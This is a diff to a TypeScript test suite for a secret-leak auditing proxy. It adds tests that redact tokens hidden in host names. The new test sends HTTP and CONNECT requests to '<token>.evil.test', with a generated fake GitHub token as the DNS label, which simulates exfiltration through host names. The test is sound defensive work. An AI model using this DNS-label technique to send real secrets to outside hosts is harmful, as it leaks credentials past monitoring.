@@ -5,7 +5,8 @@
 // any secret's random part, and for the guardian's own CA and leaf key material. Paths carry secrets
 // too (one holding `/`), evasion encodings are planted (a plain body declared gzip, a form-encoded
 // private key, wrapped base64), and config output is audited: check-config, status and the service
-// log of a guardian chained to an upstream proxy whose URL holds a password.
+// log of a guardian chained to an upstream proxy whose URL holds a password. Host names carry secrets
+// too: a token as a DNS label in an absolute-URI host and in a CONNECT target.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import net from 'node:net';
 import path from 'node:path';
@@ -20,7 +21,7 @@ import { FrameSplitter, MAX_RESPONSE_FRAME } from '../lib/ipc-protocol.js';
 import type { Finding } from '../lib/finding-schema.js';
 import { ALL_RULES } from '../lib/rules/index.js';
 import { startUpstream, type Upstream } from './support/upstream.js';
-import { viaProxyHttp, viaProxyHttps, waitFor, type Resp } from './support/proxy-client.js';
+import { connectTunnel, viaProxyHttp, viaProxyHttps, waitFor, type Resp } from './support/proxy-client.js';
 import { startService, tempHome, type TestService } from './support/service.js';
 import { expandExample, randomString } from './support/expand-example.js';
 import { runCli } from './support/cli.js';
@@ -70,6 +71,8 @@ let chained: TestService | undefined;
 const proxyUser = `agent${randomString('lower', 12)}`;
 const proxyPass = randomString('alnum', 24);
 const configParts = [proxyUser, proxyPass];
+/** Random parts of secrets carried in host names (lowercase: host names are read lowercased). */
+const hostParts: string[] = [];
 const plants: Plant[] = [];
 const sources = new Map<string, string>();
 
@@ -241,6 +244,26 @@ beforeAll(async () => {
     const r = await plant.send();
     expect(r.status, plant.path).toBeGreaterThan(0);
   }
+  // 20, 21. A token as a DNS label: in an absolute-URI host (answered 502: no such host) and in a CONNECT
+  // target (inspection on: the tunnel is accepted, then closed).
+  const hostTok = () => {
+    const k = expandExample('ghp_{{rand:lower:36}}');
+    hostParts.push(...k.randomParts);
+    return k.text;
+  };
+  expect((await viaProxyHttp(g.port, `http://${hostTok()}.evil.test/h20`)).status).toBe(502);
+  await connectTunnel(g.port, `${hostTok()}.evil.test:443`).then(
+    (sock) => sock.destroy(),
+    () => undefined,
+  );
+  await waitFor(
+    async () => {
+      await g.svc.store.flush();
+      return (await g.svc.listFindings({ limit: 500 })).filter((f) => f.dest.includes('evil.test')).length;
+    },
+    (n) => n >= 2,
+    'the host-name findings',
+  );
   // Inbound injections too, so neutralised snippets are part of the audit.
   expect((await http('/plain')).status).toBe(200);
   expect((await https('/gzip')).status).toBe(200);
@@ -402,11 +425,20 @@ describe('leak audit', () => {
     expect(f?.path).toBe('/p16/creds/aws_secret_access_key=[REDACTED]');
   });
 
-  // Not covered here yet (issue 12 point 1, hosts): a secret in an absolute-URI or CONNECT host
-  // (`GET http://<token>.evil.test/`, `CONNECT <token>.evil.test:443`) must be redacted in `dest`,
-  // status destinations and the service log. That needs the proxy to scan and redact hostnames
-  // (helper "proxy-flow"); add those plants to this audit when it lands.
-  it.todo('redacts a secret carried in a request-target, Host or CONNECT hostname everywhere it is written');
+  it('redacts a secret carried in a request-target or CONNECT host name everywhere it is written', async () => {
+    const fs = (await g.svc.listFindings({ limit: 500 })).filter((f) => f.dest.includes('evil.test'));
+    expect(fs.map((f) => f.protocol).sort()).toEqual(['connect', 'http']);
+    for (const f of fs) expect(f.dest).toMatch(/^\[REDACTED\]\.evil\.test:\d+$/);
+    expect(sources.get('ipc frames')).toContain('[REDACTED].evil.test:443');
+    const windows = runs8(hostParts);
+    expect(windows.length).toBeGreaterThan(50);
+    const leaks: string[] = [];
+    for (const [name, text] of sources) {
+      const lower = text.toLowerCase();
+      for (const w of windows) if (lower.includes(w)) leaks.push(`${name}: ${w}`);
+    }
+    expect(leaks).toEqual([]);
+  });
 
   it('shows no CA or leaf key material in any output', () => {
     const caDir = path.join(g.home, 'ca');
